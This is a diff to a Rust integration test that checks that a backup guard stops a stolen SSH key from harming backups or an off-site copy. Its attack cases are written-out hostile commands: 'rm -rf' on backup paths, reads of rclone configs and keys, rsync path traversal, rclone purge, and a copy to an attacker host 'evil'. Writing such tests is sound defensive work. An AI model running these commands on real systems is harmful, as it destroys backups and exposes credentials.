@@ -9,6 +9,7 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
+use common::copy_targets::*;
 use common::*;
 
 const RUN_TIMEOUT: Duration = Duration::from_secs(120);
@@ -106,11 +107,16 @@ fn a_stolen_key_cannot_destroy_history() {
              --setup < /dev/null > /dev/null"
         ),
     );
+    // A second copy on a server of the owner's, which the key must not reach either.
+    let copy = env.copy_target(&remote, CopyKind::Sftp);
+    let copy_host = copy.container.clone().unwrap();
     let volume = env.volume("data", &["backup.enable=true", &env.project_label()]);
     env.in_volume(&volume, "echo precious > /data/file");
     let sidecar = env.sidecar(&remote, &[("BACKUP_ARCHIVE_PREFIX", "nas")]);
     let run = wait_for_run(&sidecar, RUN_TIMEOUT);
     assert_eq!(run["fields"]["outcome"], "success", "{run}");
+    let copied = wait_for_events(&sidecar, "copy finished", 1, RUN_TIMEOUT).remove(0);
+    assert_eq!(copied["fields"]["outcome"], "success", "{copied}");
     assert!(
         events_named(&sidecar, "remote unguarded").is_empty(),
         "the test remote is guarded"
@@ -192,7 +198,27 @@ fn a_stolen_key_cannot_destroy_history() {
         ("ssh -O forward -L on a shared connection", "$S -M -S /tmp/cm -o ControlPersist=60 -N -f $R && $S -S /tmp/cm -O forward -L 127.0.0.1:2223:127.0.0.1:22 $R && sleep 1 && through 2223".into()),
         ("ssh -O forward -R on a shared connection", "$S -M -S /tmp/cm -o ControlPersist=60 -N -f $R && $S -S /tmp/cm -O forward -R 127.0.0.1:2224:127.0.0.1:22 $R".into()),
         ("a command on a shared connection", "$S -M -S /tmp/cm -o ControlPersist=60 -N -f $R && $S -S /tmp/cm $R 'rm -rf /backup'; r=$?; $S -S /tmp/cm -O exit $R 2>/dev/null; exit $r".into()),
+        // The second copy: its place, credentials and configuration stay the owner's.
+        ("read the copy's rclone config", "$S $R 'cat /etc/backup-sidecar/rclone.conf'".into()),
+        ("rsync of the copy's rclone config", "rsync -a -e \"$S\" $R::mirror/../../etc/backup-sidecar/rclone.conf s".into()),
+        ("rsync over guard.conf (to drop the copy)", "echo x > x; rsync -a -e \"$S\" x $R::mirror/../../etc/backup-sidecar/guard.conf".into()),
+        ("stat of the copy's ssh key", format!("$S $R 'backup-sidecar-guard stat {}'", hex("/etc/backup-sidecar/copy_key"))),
+        ("a copy to a target of the attacker's", format!("$S $R 'backup-sidecar-guard copy nas 60 {mirror} evil:/x'")),
+        ("rclone options as the copy's prefix", format!("$S $R 'backup-sidecar-guard copy --config=/tmp/x 60 {mirror}'")),
+        ("rclone purge of the copy as a command", "$S $R 'rclone purge offsite:/backup/copy'".into()),
+        ("a copy-check with a target", "$S $R 'backup-sidecar-guard copy-check 60 offsite:/'".into()),
+        ("borg serve of the copy's staging", "borg list ssh://$R/backup/.borg.copy".into()),
+        ("the sidecar's key on the copy's server", format!("ssh -i /ssh/id_ed25519 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR root@{copy_host} 'rm -rf /backup/copy'")),
     ];
+    let copy_state = || {
+        docker(&[
+            "exec",
+            &copy_host,
+            "sh",
+            "-c",
+            "find /backup /root/.ssh -xdev 2>/dev/null | xargs -d '\\n' stat -c '%n %s %.9Y %a' | sort | sha256sum",
+        ])
+    };
     let mut table = vec![(
         "attack".to_string(),
         "what the guard (or sshd) answered".to_string(),
@@ -200,10 +226,16 @@ fn a_stolen_key_cannot_destroy_history() {
     )];
     for (name, script) in &cases {
         let state = env.on_remote(&remote, STATE);
+        let copy_before = copy_state();
         let (code, out) = attack(&env, &remote, script);
         let after = env.on_remote(&remote, STATE);
         assert_ne!(code, 0, "{name}: the attack succeeded:\n{out}");
         assert_eq!(state, after, "{name}: the remote changed:\n{out}");
+        assert_eq!(
+            copy_before,
+            copy_state(),
+            "{name}: the copy changed:\n{out}"
+        );
         table.push((name.to_string(), answer(&out), "nothing".to_string()));
     }
     assert_eq!(
@@ -244,6 +276,20 @@ fn a_stolen_key_cannot_destroy_history() {
         "(the owner's rollback: guard --rollback N on the remote)".into(),
         format!("rolled back to transaction {good}"),
         format!("{archive} listed again; borg check passes"),
+    ));
+
+    // What the key can do with the copy: bring it up to date, as after each snapshot. What that
+    // replaces or deletes there is moved aside, never deleted.
+    let (code, out) = attack(
+        &env,
+        &remote,
+        &format!("$S $R 'backup-sidecar-guard copy nas 60 {mirror}' > /dev/null"),
+    );
+    assert_eq!(code, 0, "{out}");
+    table.push((
+        "copy verb: the copy brought up to date".into(),
+        "accepted: the repository replicated with the owner's rclone config".into(),
+        "the copy; what it replaced moved to offsite:/backup/copy.deleted/<time>".into(),
     ));
 
     // After all that, the sidecar still backs up through the guard.
